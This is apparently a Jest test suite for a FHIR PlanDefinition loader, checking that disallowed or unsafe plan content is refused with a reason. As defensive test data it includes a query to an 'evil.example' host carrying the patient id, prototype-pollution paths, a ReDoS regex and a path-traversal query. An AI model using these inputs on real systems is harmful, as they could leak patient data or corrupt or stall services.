/** What a plan in plain R4 may not hold is refused at load with its place and reason; the repaired twin is taken. */
import { expect, test } from '@jest/globals';
import type { ActivityDefinition, FhirResource, PlanDefinition } from '../../src/fhir/types.ts';
import type { KnowledgeFile } from '../../src/knowledge/sources.ts';
import { checkPlans, compilePlans } from '../../src/plan/compile-plans.ts';

const VARIABLE = 'http://hl7.org/fhir/StructureDefinition/variable';
const BASE = 'http://example.com/small/';

const fhirpath = (expression: string) => ({ language: 'text/fhirpath' as const, expression });
const fact = (name: string, expression: string, language = 'text/fhirpath') => ({
  url: VARIABLE,
  valueExpression: { name, expression, language: language as 'text/fhirpath' },
});
const query = (name: string, expression: string) => fact(name, expression, 'application/x-fhir-query');

type Knowledge = { plan: PlanDefinition; inner: PlanDefinition; activity: ActivityDefinition };

const small = (): Knowledge => ({
  plan: {
    resourceType: 'PlanDefinition',
    id: 'small',
    url: `${BASE}PlanDefinition/small`,
    title: 'Small',
    status: 'active',
    extension: [
      query('weights', 'Observation?patient={{%subject.id}}&code=29463-7'),
      fact('known', '%weights.entry.exists()'),
    ],
    action: [
      {
        id: 'weigh',
        title: 'Weigh her',
        trigger: [{ type: 'named-event', name: 'patient-view' }],
        condition: [{ kind: 'applicability', expression: fhirpath('%known.not()') }],
        definitionCanonical: `${BASE}ActivityDefinition/weigh`,
        dynamicValue: [{ path: 'patientInstruction', expression: fhirpath("'Without shoes'") }],
      },
      { id: 'more', title: 'More', definitionCanonical: `${BASE}PlanDefinition/inner` },
    ],
  },
  inner: {
    resourceType: 'PlanDefinition',
    id: 'inner',
    url: `${BASE}PlanDefinition/inner`,
    title: 'Inner',
    status: 'active',
    action: [{ id: 'talk', title: 'Talk to her' }],
  },
  activity: {
    resourceType: 'ActivityDefinition',
    id: 'weigh',
    url: `${BASE}ActivityDefinition/weigh`,
    title: 'Weigh',
    status: 'active',
    kind: 'ServiceRequest',
    code: { text: 'Weight' },
  },
});

const filesOf = (resources: FhirResource[]): KnowledgeFile[] =>
  resources.map((resource) => ({ file: `${resource.id}.json`, resource }));

function reasons(change: (knowledge: Knowledge) => void): string[] {
  const knowledge = small();
  change(knowledge);
  const { problems } = checkPlans(filesOf(Object.values(knowledge)));
  return problems.map(({ element, reason }) => `${element}: ${reason}`);
}

const [weigh, more] = [0, 1];
const action = ({ plan }: Knowledge, at = weigh) => plan.action?.[at] ?? {};

test('the small plan is taken as it is', () => {
  expect(reasons(() => {})).toEqual([]);
  expect(compilePlans(filesOf(Object.values(small()))).map(({ id }) => id)).toEqual(['small', 'inner']);
});

type Row = [what: string, reason: RegExp, change: (knowledge: Knowledge) => void];

const condition = (expression: string) => (knowledge: Knowledge) => {
  action(knowledge).condition = [{ kind: 'applicability', expression: fhirpath(expression) }];
};
const variable =
  (...facts: ReturnType<typeof fact>[]) =>
  (knowledge: Knowledge) => {
    knowledge.plan.extension = [...(knowledge.plan.extension ?? []), ...facts];
  };
const path = (text: string) => (knowledge: Knowledge) => {
  action(knowledge).dynamicValue = [{ path: text, expression: fhirpath("'x'") }];
};

test.each<Row>([
  ['an expression that does not parse', /^weigh: .*cannot be read/, condition('%known and')],
  ['an unknown name', /^weigh: %nobody is not defined/, condition('%nobody')],
  [
    'a name that is defined later',
    /%later is not defined before/,
    variable(fact('early', '%later'), fact('later', 'true')),
  ],
  ['two facts of one name', /two variables here are called known/, variable(fact('known', 'true'))],
  ['a fact that takes a name of FHIR', /%subject has a meaning/, variable(fact('subject', 'true'))],
  ['a fact called __proto__', /no name that %name/, variable(fact('__proto__', 'true'))],
  ['a regular expression', /regular expression/, condition("%known.toString().matches('^(a+)+$')")],
  ['replaceMatches', /regular expression/, condition("%known.toString().replaceMatches('(a+)+$', 'b') = 'c'")],
  ['resolve', /reads beyond the data/, condition('%weights.entry.resource.subject.resolve().exists()')],
  ['memberOf', /terminology server/, condition("%weights.entry.resource.code.memberOf('http://x')")],
  ['trace', /to a log/, condition("%known.trace('x')")],
  ['a path without a name', /stands without a %name/, condition("Patient.gender = 'female'")],
  ['a comment', /comments/, condition('%known // really')],
  [
    'an expression of enormous length',
    /more than 5000/,
    condition(Array.from({ length: 900 }, () => '%known').join(' or ')),
  ],
  [
    'CQL',
    /only text\/fhirpath/,
    (k) => {
      action(k).condition = [{ kind: 'applicability', expression: { language: 'text/cql', expression: 'Known' } }];
    },
  ],
  [
    'a condition without an expression',
    /there is no expression/,
    (k) => {
      action(k).condition = [{ kind: 'applicability' }];
    },
  ],
  [
    'a query that leaves the server',
    /no read or search/,
    variable(query('q', 'https://evil.example/Observation?patient={{%subject.id}}')),
  ],
  ['a query of no resource type', /no read or search/, variable(query('q', 'Basilisk?patient={{%subject.id}}'))],
  ['a query of prototypes', /no read or search/, variable(query('q', '__proto__?patient={{%subject.id}}'))],
  ['a query that climbs', /no read or search/, variable(query('q', 'Observation/../Patient?patient={{%subject.id}}'))],
  ['a query that calls an operation', /no read or search/, variable(query('q', 'Patient/{{%subject.id}}/$everything'))],
  ['a query about nobody', /names no patient/, variable(query('q', 'Observation?code=1'))],
  ['a query that includes', /_include/, variable(query('q', 'Observation?patient={{%subject.id}}&_include=x'))],
  [
    'a query with a token that nobody fills',
    /is not known when data are fetched/,
    variable(query('q', 'Observation?patient={{%known}}')),
  ],
  ['a path to the prototype', /is no path/, path('__proto__.polluted')],
  ['a path through the constructor', /is no path/, path('constructor.prototype.polluted')],
  ['a path to the prototype further in', /is no path/, path('code.__proto__.polluted')],
  ['a path of no element', /is no path/, path('codee.text')],
  ['a path that makes an order of a draft', /`status` is not set/, path('status')],
  ['a path that changes the person', /`subject` is not set/, path('subject.reference')],
  ['an index into what is no list', /is no list/, path('code[0].text')],
  ['an element of an action that is not set', /is not set/, path('%action.condition')],
  [
    'a resource path where there is no resource',
    /no resource to set it of/,
    (k) => {
      action(k, more).dynamicValue = [{ path: 'code.text', expression: fhirpath("'x'") }];
    },
  ],
  [
    'a definition that is nowhere',
    /not among the knowledge files/,
    (k) => {
      action(k).definitionCanonical = 'http://nowhere';
    },
  ],
  [
    'a plan inside itself',
    /comes back to itself/,
    (k) => {
      k.inner.action = [{ title: 'Again', definitionCanonical: k.plan.url }];
    },
  ],
  [
    'a plan that is its own action',
    /comes back to itself/,
    (k) => {
      k.inner.action = [{ title: 'Again', definitionCanonical: k.inner.url }];
    },
  ],
  [
    'a StructureMap',
    /`transform` is not honoured/,
    (k) => {
      action(k).transform = 'http://map';
    },
  ],
  [
    'a goal',
    /`goal` is not honoured/,
    (k) => {
      k.plan.goal = [{ description: { text: 'x' } }];
    },
  ],
  [
    'a modifier',
    /`modifierExtension`/,
    (k) => {
      action(k).modifierExtension = [{ url: 'http://x', valueBoolean: true }];
    },
  ],
  [
    'a trigger that is no hook',
    /only hooks/,
    (k) => {
      action(k).trigger = [{ type: 'data-added', name: 'x' }];
    },
  ],
  [
    'a trigger further down',
    /below the top/,
    (k) => {
      action(k, more).action = [{ title: 'x', trigger: [{ type: 'named-event', name: 'patient-view' }] }];
    },
  ],
  [
    'a behaviour that is no code',
    /selectionBehavior some is no code/,
    (k) => {
      action(k).selectionBehavior = 'some' as 'any';
    },
  ],
  [
    'an action that says nothing',
    /neither title, definition nor actions/,
    (k) => {
      k.inner.action = [{ id: 'empty' }];
    },
  ],
  [
    'a title that is no summary',
    /more than 139/,
    (k) => {
      action(k).title = 'x'.repeat(140);
    },
  ],
  [
    'no id',
    /no id that can be the id of a service/,
    (k) => {
      delete k.plan.id;
    },
  ],
  [
    'no url',
    /no url/,
    (k) => {
      delete k.plan.url;
    },
  ],
  [
    'an id used twice',
    /two plans have this id/,
    (k) => {
      k.inner.id = 'small';
    },
  ],
  [
    'an extension of plans with levels',
    /`runs-in` is of plans with level groups/,
    (k) => {
      action(k).extension = [{ url: 'http://x/StructureDefinition/runs-in', valueCode: 'PREG' }];
    },
  ],
  [
    'an activity of a kind that is not drafted',
    /kind Contract/,
    (k) => {
      k.activity.kind = 'Contract';
      action(k).dynamicValue = [];
    },
  ],
  [
    'a medicine without a product',
    /needs a product/,
    (k) => {
      k.activity.kind = 'MedicationRequest';
      action(k).dynamicValue = [];
    },
  ],
  [
    'an activity with a place',
    /`location` is not honoured/,
    (k) => {
      k.activity.location = { reference: 'Location/1' };
    },
  ],
  [
    'an input filtered by date',
    /`dateFilter` is not honoured/,
    (k) => {
      action(k).input = [{ id: 'x', type: 'Observation', dateFilter: [{ path: 'date' }] }] as never;
    },
  ],
  [
    'an input of a ValueSet that is not there',
    /is not listed here/,
    (k) => {
      action(k).input = [{ id: 'x', type: 'Observation', codeFilter: [{ valueSet: 'http://vs' }] }] as never;
    },
  ],
  [
    'rules that are not known',
    /`implicitRules`/,
    (k) => {
      k.plan.implicitRules = 'http://rules';
    },
  ],
  [
    'a plan about a group of people',
    /names another/,
    (k) => {
      k.plan.subjectCodeableConcept = { coding: [{ code: 'Group' }] };
    },
  ],
  [
    'an activity about a device',
    /names another/,
    (k) => {
      k.activity.subjectCodeableConcept = { coding: [{ code: 'Device' }] };
    },
  ],
  [
    'a plan that was withdrawn',
    /retired/,
    (k) => {
      k.plan.status = 'retired';
    },
  ],
  [
    'a behaviour of applicability that is neither all nor any',
    /neither all nor any/,
    (k) => {
      action(k).extension = [
        { url: 'http://hl7.org/fhir/StructureDefinition/cqf-applicabilityBehavior', valueCode: 'most' },
      ];
    },
  ],
  [
    'a modifier further in',
    /`modifierExtension`/,
    (k) => {
      const modifierExtension = [{ url: 'http://x', valueBoolean: true }];
      for (const one of action(k).condition ?? []) one.modifierExtension = modifierExtension;
    },
  ],
  [
    'a computed title',
    /`cqf-expression`/,
    (k) => {
      const url = 'http://hl7.org/fhir/StructureDefinition/cqf-expression';
      Object.assign(action(k), { _title: { extension: [{ url, valueExpression: fhirpath("'x'") }] } });
    },
  ],
  [
    'an expression that stands elsewhere',
    /`reference` of an expression/,
    (k) => {
      const expression = { ...fhirpath('%known'), reference: 'http://library' };
      action(k).condition = [{ kind: 'applicability', expression }];
    },
  ],
  [
    'a trigger with a condition of its own',
    /`condition` of a trigger/,
    (k) => {
      action(k).trigger = [{ type: 'named-event', name: 'patient-view', condition: fhirpath('true') }];
    },
  ],
  [
    'a timing that has no words',
    /cannot be said in words/,
    (k) => {
      action(k).timingTiming = { repeat: { when: ['MORN'] } };
    },
  ],
  [
    'a task that is not to be done',
    /`doNotPerform` is not honoured/,
    (k) => {
      Object.assign(k.activity, { kind: 'Task', doNotPerform: true });
      action(k).dynamicValue = [];
    },
  ],
  [
    'an order with two kinds of performer',
    /the second participant/,
    (k) => {
      k.activity.participant = [{ type: 'practitioner' }, { type: 'related-person' }];
    },
  ],
  [
    'an input of the first few',
    /`limit` of an input/,
    (k) => {
      action(k).input = [{ id: 'x', type: 'Observation', limit: 1 }];
    },
  ],
])('%s is refused', (_, reason, change) => {
  expect(reasons(change)).toContainEqual(expect.stringMatching(reason));
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
});

test('three plans deep is taken, four are not', () => {
  const chain = (length: number): KnowledgeFile[] =>
    filesOf(
      Array.from({ length }, (_, at) => ({
        resourceType: 'PlanDefinition',
        id: `p${at}`,
        url: `${BASE}PlanDefinition/p${at}`,
        title: `P${at}`,
        status: 'active',
        action: [
          { title: 'Step', ...(at + 1 < length && { definitionCanonical: `${BASE}PlanDefinition/p${at + 1}` }) },
        ],
      })),
    );
  expect(checkPlans(chain(3)).problems).toEqual([]);
  expect(checkPlans(chain(4)).problems.map(({ reason }) => reason)).toEqual([
    expect.stringMatching(/more than 3 plans deep/),
  ]);
});

test('the clock is that of the call: today() and now() are honoured', () => {
  expect(
    reasons(condition("%weights.entry.resource.effective.toDateTime() > now() - 1 'h' and today() > @2020-01-01")),
  ).toEqual([]);
  expect(reasons(condition("'today() and  now()' = 'x'"))).toEqual([expect.stringMatching(/odd blanks/)]);
  expect(reasons(condition("'today() and now()' = 'x'"))).toEqual([]);
});
